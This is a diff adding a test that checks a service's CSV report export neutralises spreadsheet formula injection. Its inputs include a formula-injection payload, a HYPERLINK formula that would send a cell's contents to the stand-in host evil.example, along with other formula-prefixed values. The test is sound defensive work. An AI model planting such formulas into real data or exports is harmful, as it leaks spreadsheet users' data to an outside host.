@@ -284,3 +284,48 @@ class TestAtRiskTenants:
             }
         ]
         assert len(theirs_csv.text.strip().splitlines()) == 2
+
+
+async def test_csv_formulas_neutralised(api: httpx.AsyncClient) -> None:
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    put = await api.put(
+        "/v1/accounts/=1+2",
+        json={
+            "name": name,
+            "revenue": {
+                "amount": "1000.00",
+                "currency": "USD",
+                "effective_at": "2026-01-01T00:00:00Z",
+            },
+        },
+    )
+    posted = await api.post(
+        "/v1/responses",
+        json={
+            "responses": [
+                {
+                    "source": "native",
+                    "response_id": "formula",
+                    "account_external_id": "=1+2",
+                    "email": "@evil@x.com",
+                    "score": 2,
+                    "comment": "-2+3",
+                    "submitted_at": "2026-02-01T00:00:00Z",
+                }
+            ]
+        },
+    )
+
+    csv_text = (
+        await api.get(
+            "/v1/reports/at-risk", params={"period": "2026-Q1"}, headers={"Accept": "text/csv"}
+        )
+    ).text
+    row = next(csv.reader(io.StringIO(csv_text.splitlines()[1])))
+
+    assert put.status_code == 201, put.text
+    assert posted.status_code == 200, posted.text
+    assert row[0] == "'=1+2"
+    assert row[1] == "'" + name
+    assert "'-2+3" in row
+    assert "'@evil@x.com" in row
